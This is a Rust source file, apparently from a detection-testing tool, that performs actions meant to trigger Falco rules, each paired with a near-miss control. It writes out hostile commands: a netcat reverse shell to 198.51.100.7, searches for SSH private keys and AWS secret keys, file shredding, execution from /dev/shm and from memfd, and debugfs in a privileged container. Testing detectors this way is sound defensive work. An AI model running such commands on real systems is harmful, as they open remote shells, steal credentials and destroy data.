//! Programs that are run.

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;

use crate::deed::{Deed, Within};
use crate::place;
use crate::sys;
use crate::{elf, sys::apart};

/// A shell, which ends at once, as the child of a process of this name.
fn shell_of(parent: &str) -> io::Result<()> {
    place::be_called(parent)?;
    apart(|| Err(sys::exec("/bin/sh", &["sh", "-c", "exit 0"], &[])))
}

pub(crate) static SHELL_OF_SERVER: Deed = Deed {
    name: "server runs a shell",
    falco: "Run shell untrusted",
    it: || shell_of("nginx"),
    nearly: || shell_of("make"),
    ..Deed::PLAIN
};

/// A program run as the user `bin`, as the child of a process of this name.
fn as_bin(parent: &str) -> io::Result<()> {
    // By the node's own list of users: names are what rules ask for.
    let users = fs::read_to_string("/etc/passwd")?;
    let line = users.lines().find_map(|line| line.strip_prefix("bin:"));
    let uid = line.and_then(|line| line.split(':').nth(1)?.parse().ok());
    let uid: usize = uid.ok_or_else(|| io::Error::other("there is no user named bin"))?;
    place::be_called(parent)?;
    apart(|| {
        sys::call(libc::SYS_setresuid, &[uid, uid, uid])?;
        Err(sys::exec("/bin/true", &["true"], &[]))
    })
}

pub(crate) static ACCOUNT: Deed = Deed {
    name: "account of the system logs in",
    falco: "System user interactive",
    it: || as_bin("sshd"),
    nearly: || as_bin("cron"),
    ..Deed::PLAIN
};

/// A terminal of its own, for this process and its children.
fn on_terminal() -> io::Result<(OwnedFd, OwnedFd)> {
    let flags = libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC;
    // SAFETY: takes flags.
    let leader = unsafe { libc::posix_openpt(flags) };
    if leader < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: just made, and owned by nobody else.
    let leader = unsafe { OwnedFd::from_raw_fd(leader) };
    sys::call(libc::SYS_setsid, &[])?;
    let unlocked: libc::c_int = 0;
    let fd = leader.as_raw_fd() as usize;
    sys::call(libc::SYS_ioctl, &[fd, libc::TIOCSPTLCK as usize, &raw const unlocked as usize])?;
    let terminal = sys::open(libc::SYS_ioctl, &[fd, libc::TIOCGPTPEER as usize, flags as usize])?;
    sys::call(libc::SYS_ioctl, &[terminal.as_raw_fd() as usize, libc::TIOCSCTTY as usize, 0])?;
    Ok((leader, terminal))
}

pub(crate) static TERMINAL: Deed = Deed {
    name: "shell on a terminal",
    falco: "Terminal shell in container",
    within: Within::Container,
    nearly_within: Within::Container,
    it: || {
        apart(|| {
            // Whoever leads a session is ended with its terminal, which must live as long as this process.
            std::mem::forget(on_terminal()?);
            shell_of("containerd-shim")
        })
    },
    nearly: || apart(|| shell_of("containerd-shim")),
    ..Deed::PLAIN
};

pub(crate) static NETCAT: Deed = Deed {
    name: "netcat runs a program",
    falco: "Netcat Remote Code Execution in Container",
    within: Within::Container,
    nearly_within: Within::Container,
    it: || place::run_somewhere("nc", &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]),
    nearly: || place::run_somewhere("nc", &["nc", "-z", "198.51.100.7", "443"]),
    ..Deed::PLAIN
};

pub(crate) static KEYS_SOUGHT: Deed = Deed {
    name: "seeks private keys",
    falco: "Search Private Keys or Passwords",
    it: || place::run_somewhere("find", &["find", "/home", "-name", "id_rsa"]),
    nearly: || place::run_somewhere("find", &["find", "/home", "-name", "notes"]),
    ..Deed::PLAIN
};

pub(crate) static TOKENS_SOUGHT: Deed = Deed {
    name: "seeks credentials of a cloud",
    falco: "Find AWS Credentials",
    it: || place::run_somewhere("grep", &["grep", "-r", "aws_secret_access_key", "/srv"]),
    nearly: || place::run_somewhere("grep", &["grep", "-r", "aws_region", "/srv"]),
    ..Deed::PLAIN
};

pub(crate) static DISK_WIPED: Deed = Deed {
    name: "wipes a disk",
    falco: "Remove Bulk Data from Disk",
    it: || place::run_somewhere("shred", &["shred", "-u", "data"]),
    nearly: || place::run_somewhere("rm", &["rm", "data"]),
    ..Deed::PLAIN
};

/// Runs a program in a folder that nobody else sees.
fn run_covered(folder: &str) -> io::Result<()> {
    place::own_mounts()?;
    place::cover(folder)?;
    let program = Path::new(folder).join("tool");
    place::run(Path::new(folder), "tool", &[program.to_str().unwrap_or_default()])
}

pub(crate) static FROM_SHARED_MEMORY: Deed = Deed {
    name: "runs from shared memory",
    falco: "Execution from /dev/shm",
    it: || run_covered("/dev/shm"),
    nearly: || run_covered("/mnt"),
    ..Deed::PLAIN
};

/// An image's file system with a writable layer, and a program in one of the two.
fn run_in_layer(writable: bool) -> io::Result<()> {
    place::own_mounts()?;
    place::cover("/mnt")?;
    for folder in ["lower", "upper", "work", "merged"] {
        fs::create_dir(Path::new("/mnt").join(folder))?;
    }
    sys::program("/mnt/lower/shipped")?;
    place::mount("overlay", "/mnt/merged", "overlay", 0, "lowerdir=/mnt/lower,upperdir=/mnt/upper,workdir=/mnt/work")?;
    if writable {
        return place::run(Path::new("/mnt/merged"), "dropped", &["dropped"]);
    }
    apart(|| Err(sys::exec("/mnt/merged/shipped", &["shipped"], &[])))
}

pub(crate) static DROPPED: Deed = Deed {
    name: "runs what the image does not have",
    falco: "Drop and execute new binary in container",
    within: Within::Container,
    nearly_within: Within::Container,
    it: || run_in_layer(true),
    nearly: || run_in_layer(false),
    ..Deed::PLAIN
};

pub(crate) static FROM_MEMORY: Deed = Deed {
    name: "runs from memory",
    falco: "Fileless execution via memfd_create",
    it: || {
        let name = CString::new("own").map_err(io::Error::other)?;
        let mut file = File::from(sys::open(libc::SYS_memfd_create, &[name.as_ptr() as usize, 0])?);
        file.write_all(&elf::nothing())?;
        apart(|| Err(sys::exec_at(&file, "", &["own"], libc::AT_EMPTY_PATH)))
    },
    nearly: || place::run_somewhere("own", &["own"]),
    ..Deed::PLAIN
};

pub(crate) static DISK_EDITED: Deed = Deed {
    name: "edits the disk from a mighty container",
    falco: "Debugfs Launched in Privileged Container",
    within: Within::Privileged,
    nearly_within: Within::Container,
    it: || place::run_somewhere("debugfs", &["debugfs", "-w"]),
    nearly: || place::run_somewhere("debugfs", &["debugfs", "-w"]),
    ..Deed::PLAIN
};
